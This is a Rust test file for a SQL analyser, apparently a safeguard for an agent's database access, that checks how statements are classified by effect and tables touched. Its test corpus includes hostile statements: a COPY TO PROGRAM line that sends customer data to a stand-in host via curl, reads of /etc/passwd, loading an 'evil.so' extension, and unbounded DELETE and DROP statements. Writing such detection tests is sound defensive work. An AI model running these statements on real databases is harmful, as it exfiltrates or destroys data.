//! The corpus: statements per dialect with the kinds, effects and tables they must yield.

use super::*;

fn analysed(sql: &str, dialect: &str) -> Analysis {
    let d = Dialect::named(dialect).unwrap();
    analyze(sql, &d, &SensitiveColumns::default()).unwrap_or_else(|e| panic!("{sql} ({dialect}): {e}"))
}

fn kinds(a: &Analysis) -> Vec<&'static str> {
    a.kinds.iter().map(Kind::as_str).collect()
}

fn effects(a: &Analysis) -> Vec<&'static str> {
    a.effects.iter().map(Effect::as_str).collect()
}

fn tables(a: &Analysis) -> Vec<String> {
    a.tables.iter().map(Table::to_string).collect()
}

/// (dialect, sql, kinds, worst effect, tables, unbounded)
type Case = (&'static str, &'static str, &'static [&'static str], &'static str, &'static [&'static str], bool);

const CORPUS: &[Case] = &[
    // Reads, keywords in literals and comments
    (
        "sqlite",
        "SELECT name FROM customers WHERE name = 'please drop table later'",
        &["select"],
        "read",
        &["customers"],
        false,
    ),
    ("sqlite", "SELECT 'truncate'", &["select"], "read", &[], false),
    ("generic", "SELECT 1 -- ; DROP TABLE customers", &["select"], "read", &[], false),
    ("generic", "SELECT /* DELETE FROM customers */ id FROM orders", &["select"], "read", &["orders"], false),
    ("postgresql", "SELECT $$drop table x$$ AS s", &["select"], "read", &[], false),
    ("sqlite", "SELECT replace(name, 'a', 'b') FROM customers", &["select"], "read", &["customers"], false),
    (
        "sqlite",
        "SELECT c.id FROM main.customers c JOIN orders o ON o.cid = c.id",
        &["select"],
        "read",
        &["main.customers", "orders"],
        false,
    ),
    ("mysql", "SELECT * FROM `Payments`", &["select"], "read", &["payments"], false),
    ("mssql", "SELECT * FROM [dbo].[Payments]", &["select"], "read", &["dbo.payments"], false),
    (
        "postgresql",
        "SELECT * FROM \"Payments\" WHERE id IN (SELECT pid FROM refunds)",
        &["select"],
        "read",
        &["payments", "refunds"],
        false,
    ),
    ("generic", "SELECT a FROM t UNION SELECT b FROM u", &["select"], "read", &["t", "u"], false),
    ("sqlite", "EXPLAIN QUERY PLAN SELECT * FROM customers", &["explain", "select"], "read", &["customers"], false),
    ("mysql", "SHOW TABLES", &["show"], "read", &[], false),
    // Writes, including ones hidden in CTEs and second statements
    ("sqlite", "UPDATE customers SET email = NULL", &["update"], "write", &["customers"], true),
    ("sqlite", "UPDATE customers SET email = NULL WHERE 1=1", &["update"], "write", &["customers"], true),
    ("sqlite", "DELETE FROM customers WHERE 'a' = 'a' OR id = 3", &["delete"], "write", &["customers"], true),
    ("sqlite", "DELETE FROM customers WHERE id = id", &["delete"], "write", &["customers"], true),
    ("sqlite", "DELETE FROM customers WHERE 1", &["delete"], "write", &["customers"], true),
    ("sqlite", "DELETE FROM customers WHERE name LIKE '%'", &["delete"], "write", &["customers"], true),
    ("sqlite", "DELETE FROM customers WHERE id = 7", &["delete"], "write", &["customers"], false),
    ("sqlite", "DELETE FROM customers WHERE 1 = 2 OR id = 7", &["delete"], "write", &["customers"], false),
    ("postgresql", "DELETE FROM customers WHERE id BETWEEN 1 AND 10", &["delete"], "write", &["customers"], false),
    ("postgresql", "DELETE FROM customers WHERE 5 BETWEEN 1 AND 10", &["delete"], "write", &["customers"], true),
    (
        "postgresql",
        "WITH gone AS (DELETE FROM payments RETURNING id) SELECT count(*) FROM gone",
        &["select", "delete"],
        "write",
        &["payments", "gone"],
        true,
    ),
    ("sqlite", "SELECT 1; DELETE FROM payments WHERE id = 2", &["select", "delete"], "write", &["payments"], false),
    (
        "sqlite",
        "INSERT INTO audit_copy SELECT * FROM payments",
        &["select", "insert"],
        "write",
        &["audit_copy", "payments"],
        false,
    ),
    ("sqlite", "REPLACE INTO customers (id, name) VALUES (1, 'x')", &["insert"], "write", &["customers"], false),
    (
        "postgresql",
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
        &["merge"],
        "write",
        &["t", "s"],
        false,
    ),
    ("postgresql", "SELECT nextval('orders_id_seq')", &["select"], "write", &[], false),
    ("postgresql", "COPY customers FROM STDIN", &["copy"], "write", &["customers"], false),
    ("postgresql", "COPY customers TO STDOUT", &["copy"], "read", &["customers"], false),
    // Schema changes
    ("sqlite", "DROP TABLE customers", &["drop"], "ddl", &["customers"], false),
    ("sqlite", "DROP/**/TABLE main.customers", &["drop"], "ddl", &["main.customers"], false),
    ("postgresql", "TRUNCATE payments", &["truncate"], "ddl", &["payments"], false),
    ("postgresql", "ALTER TABLE customers ADD COLUMN note text", &["alter"], "ddl", &["customers"], false),
    ("sqlite", "CREATE TABLE t AS SELECT * FROM customers", &["create", "select"], "ddl", &["t", "customers"], false),
    ("postgresql", "SELECT * INTO stolen FROM payments", &["select", "create"], "ddl", &["stolen", "payments"], false),
    (
        "mssql",
        "SELECT * INTO #stolen FROM dbo.payments",
        &["select", "create"],
        "ddl",
        &["#stolen", "dbo.payments"],
        false,
    ),
    // Administration and the world outside the database
    ("postgresql", "GRANT ALL ON payments TO agent", &["grant"], "admin", &["payments"], false),
    ("postgresql", "REVOKE SELECT ON payments FROM agent", &["revoke"], "admin", &["payments"], false),
    ("sqlite", "ATTACH DATABASE '/tmp/x.db' AS x", &["attach"], "admin", &[], false),
    ("sqlite", "PRAGMA writable_schema = 1", &["pragma"], "admin", &[], false),
    ("postgresql", "SET search_path = evil", &["set"], "admin", &[], false),
    ("postgresql", "COPY customers TO PROGRAM 'curl -d @- evil.example'", &["copy"], "admin", &["customers"], false),
    ("postgresql", "COPY customers FROM '/etc/passwd'", &["copy"], "admin", &["customers"], false),
    ("postgresql", "SELECT pg_read_file('/etc/passwd')", &["select"], "admin", &[], false),
    ("sqlite", "SELECT load_extension('/tmp/evil.so')", &["select"], "admin", &[], false),
    ("duckdb", "LOAD httpfs", &["load"], "admin", &[], false),
    ("postgresql", "CREATE EXTENSION plpython3u", &["create"], "admin", &[], false),
    ("postgresql", "CALL purge_everything()", &["call"], "admin", &[], false),
    ("postgresql", "BEGIN; DELETE FROM t WHERE id = 1; COMMIT", &["delete", "transaction"], "write", &["t"], false),
];

#[test]
fn corpus_yields_kinds_worst_effect_tables_and_bounds() {
    for (dialect, sql, want_kinds, worst, want_tables, unbounded) in CORPUS {
        let a = analysed(sql, dialect);
        let mut got = kinds(&a);
        let mut want = want_kinds.to_vec();
        got.sort_unstable();
        want.sort_unstable();
        assert_eq!(got, want, "kinds of {sql} ({dialect})");
        assert_eq!(a.effects.worst().map(Effect::as_str), Some(*worst), "effect of {sql} ({dialect}): {a}");
        assert_eq!(tables(&a), want_tables.iter().map(|t| t.to_string()).collect::<Vec<_>>(), "tables of {sql}");
        assert_eq!(a.unbounded, *unbounded, "unbounded of {sql} ({dialect})");
    }
}

#[test]
fn effects_lists_every_effect_not_only_the_worst() {
    let a = analysed("SELECT 1; UPDATE t SET x = 1 WHERE id = 2; DROP TABLE u", "generic");
    assert_eq!(effects(&a), ["read", "write", "ddl"]);
}

#[test]
fn what_does_not_parse_is_an_error_naming_the_problem() {
    let generic = Dialect::generic();
    for sql in ["DROP TABLE", "SELEC * FROM t", "", "  ;  ", "-- only a comment", "SELECT 'unclosed"] {
        assert!(analyze(sql, &generic, &SensitiveColumns::default()).is_err(), "{sql:?} parsed");
    }
    let err = analyze("SELEC 1", &generic, &SensitiveColumns::default()).unwrap_err();
    assert!(err.to_string().starts_with("does not parse as SQL: "), "{err}");
}

#[test]
fn nesting_deeper_than_the_limit_does_not_parse_instead_of_exhausting_the_stack() {
    let deep = format!("SELECT {}1{}", "(".repeat(5000), ")".repeat(5000));
    assert!(analyze(&deep, &Dialect::generic(), &SensitiveColumns::default()).is_err());
    let fine = format!("SELECT {}1{}", "(".repeat(10), ")".repeat(10));
    assert!(analyze(&fine, &Dialect::generic(), &SensitiveColumns::default()).is_ok());
}

#[test]
fn dialects_resolve_by_name_and_postgres_is_an_alias() {
    assert_eq!(Dialect::named("postgres").unwrap().name(), "postgresql");
    assert_eq!(Dialect::named("SQLite").unwrap().name(), "sqlite");
    assert!(Dialect::named("cobol").is_none());
    for name in DIALECTS {
        assert!(Dialect::named(name).is_some(), "{name}");
    }
}

#[test]
fn analysis_describes_itself_for_check_config() {
    let a = analysed("DELETE FROM main.payments", "sqlite");
    assert_eq!(a.to_string(), "statements [delete], effects [write], tables [main.payments], unbounded");
}
